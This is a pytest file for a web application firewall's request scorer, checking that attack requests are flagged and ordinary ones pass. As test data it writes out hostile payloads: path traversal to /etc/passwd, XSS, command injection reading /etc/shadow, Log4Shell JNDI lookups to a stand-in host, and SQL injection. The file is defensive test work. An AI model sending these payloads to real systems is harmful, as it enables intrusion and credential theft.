"""Request scoring (not yet on the request path): decoding of each request part, rules by target and
paranoia level, one RE2 set per part; the figures against the CRS tests come from bench/probes.py."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from floodwall.config import ConfigError
from floodwall.defense.scoring import Described, Scorer, load_rules, parts


@pytest.fixture(scope="module")
def scorer() -> Scorer:
    return Scorer(load_rules(), paranoia=1)


def test_attacks_in_each_part_are_scored(scorer: Scorer) -> None:
    cases = {
        "lfi/traversal": Described("GET", "/download", "file=..%252f..%252fetc%252fpasswd"),
        "xss/markup": Described("POST", "/comment", "", (("Content-Type", "application/json"),),
                                json.dumps({"text": ["<svg onload=alert(1)>"]})),
        "rce/unix-command": Described("POST", "/ping", "", (("Content-Type", "application/x-www-form-urlencoded"),),
                                      "host=127.0.0.1;cat /etc/shadow"),
        "java/classes": Described("GET", "/", "", (("User-Agent", "${jndi:ldap://x.example/a}"),
                                                  ("X-Api-Version", "${jndi:ldap://x.example/a}"))),
        "scanner/user-agent": Described("GET", "/", "", (("User-Agent", "sqlmap/1.7.2#stable"),)),
        "sqli/keywords": Described("GET", "/items", "id=1%20UNION%20ALL%20SELECT%20password%20FROM%20users"),
    }
    for rule, request in cases.items():
        found = scorer.score(request)
        assert rule in found.rules and found.score >= 5, (rule, found)


def test_ordinary_requests_score_nothing(scorer: Scorer) -> None:
    for request in (Described("GET", "/", "page=2&sort=name", (("User-Agent", "Mozilla/5.0 Firefox/128.0"),
                                                              ("Accept-Encoding", "gzip, deflate, br"))),
                    Described("POST", "/v1/chat/completions", "", (("Content-Type", "application/json"),),
                              json.dumps({"messages": [{"role": "user", "content": "What is a cat?"}]}))):
        assert scorer.score(request).score == 0, scorer.score(request)


def test_multipart_and_xml_bodies_are_read_as_fields() -> None:
    body = '--b\r\nContent-Disposition: form-data; name="note"; filename="a.txt"\r\n\r\nhello\r\n--b--'
    found = parts(Described("POST", "/", "", (("Content-Type", "multipart/form-data; boundary=b"),), body))
    assert "note" in found["names"] and "a.txt" in found["names"] and "hello" in found["args"]
    xml = parts(Described("POST", "/", "", (("Content-Type", "application/xml"),), '<a b="1 OR 1=1">t</a>'))
    assert xml["args"] == ["1 OR 1=1", "t"]


def test_paranoia_adds_rules(scorer: Scorer) -> None:
    assert len(Scorer(load_rules(), paranoia=2).rules) > len(scorer.rules)


def test_bad_rules_are_refused(tmp_path: Path) -> None:
    (tmp_path / "r.toml").write_text('[[rule]]\nname = "x"\ncategory = "y"\ntargets = ["nowhere"]\npattern = "a"\n')
    with pytest.raises(ConfigError, match="targets"):
        load_rules(tmp_path / "r.toml")
